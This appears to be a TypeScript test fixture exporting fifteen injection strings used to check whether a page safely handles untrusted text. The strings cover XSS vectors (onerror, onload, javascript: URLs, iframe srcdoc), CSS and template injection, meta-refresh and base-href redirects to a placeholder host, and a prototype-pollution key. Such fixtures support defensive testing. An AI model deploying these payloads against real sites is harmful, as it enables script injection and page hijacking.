/** Texts that would take effect in a page that trusts them: markup, scripts, URLs, styles, templates, images. */
export const PAYLOADS = [
  `<img src=/payload-hit onerror=alert(1)>`,
  `<script src=/payload-hit.js></script><script>alert(2)</script>`,
  `"><svg/onload=alert(3)><a xlink:href="javascript:alert(3)">x</a>`,
  `' onmouseover=alert(4) autofocus onfocus=alert(4) x='`,
  `javascript:alert(5)//`,
  `https://foreign.invalid/pixel.png?six`,
  `![seven](https://foreign.invalid/md.png) [go](javascript:alert(7))`,
  `<style>@import url(//foreign.invalid/8.css); body{display:none}</style>`,
  `red;background:url(https://foreign.invalid/nine)`,
  `{{constructor.constructor('alert(10)')()}} \${alert(10)} <%= alert(10) %> #{7*7}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(11)"/>`,
  `<iframe srcdoc="<script>alert(12)</script>"></iframe><base href=//foreign.invalid>`,
  `<meta http-equiv=refresh content="0;url=//foreign.invalid"><link rel=preload href=//foreign.invalid/13>`,
  `&lt;b&gt;fourteen&lt;/b&gt; &#x3c;script&#x3e; </textarea></title><!-- -->`,
  `__proto__`,
] as const;

/** All payloads, one a line, for fields with enough room. */
export const ALL_PAYLOADS = PAYLOADS.join("\n");
